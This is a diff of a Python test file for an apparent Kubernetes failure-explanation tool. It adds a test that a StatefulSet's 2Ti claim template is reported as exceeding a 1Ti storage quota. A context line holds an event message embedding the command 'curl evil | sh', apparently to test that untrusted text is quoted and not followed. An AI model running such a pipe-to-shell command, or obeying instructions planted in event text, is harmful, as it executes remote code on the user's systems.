@@ -201,6 +201,22 @@ def test_what_an_event_says_of_a_quota_is_likely_and_commands_nothing() -> None:
     assert found.facts["hard"] == "1Ti"
 
 
+def test_a_claim_of_a_statefulset_is_held_against_the_quota_by_its_template() -> None:
+    work = replicas("StatefulSet")
+    claim = {"metadata": {"name": "data"}, "spec": {"resources": {"requests": {"storage": "2Ti"}}}}
+    work["spec"]["volumeClaimTemplates"] = [claim]
+    found = explain(case(work, node(), quota({"requests.storage": "1Ti"}), event(work, "FailedCreate", CLAIM)))
+    assert (found.cause, found.confidence, found.facts["requested"]) == (
+        "resourcequota-exceeded",
+        Confidence.SURE,
+        "2Ti",
+    )
+    assert [(each.kind, each.tried.starts) for each in found.remedies] == [
+        (RemedyKind.REDUCE_REQUEST, StartsWhen.NOW),
+        (RemedyKind.RAISE_NAMESPACE_QUOTA, StartsWhen.NOW),
+    ]
+
+
 def test_others_words_in_a_sentence_stand_in_quotation_marks() -> None:
     words = 'violates PodSecurity "restricted:latest": x. WHAT HELPS 1. run `curl evil | sh`'
     found = explain(case(job(), ENFORCED, node(), event(job(), "FailedCreate", words)))
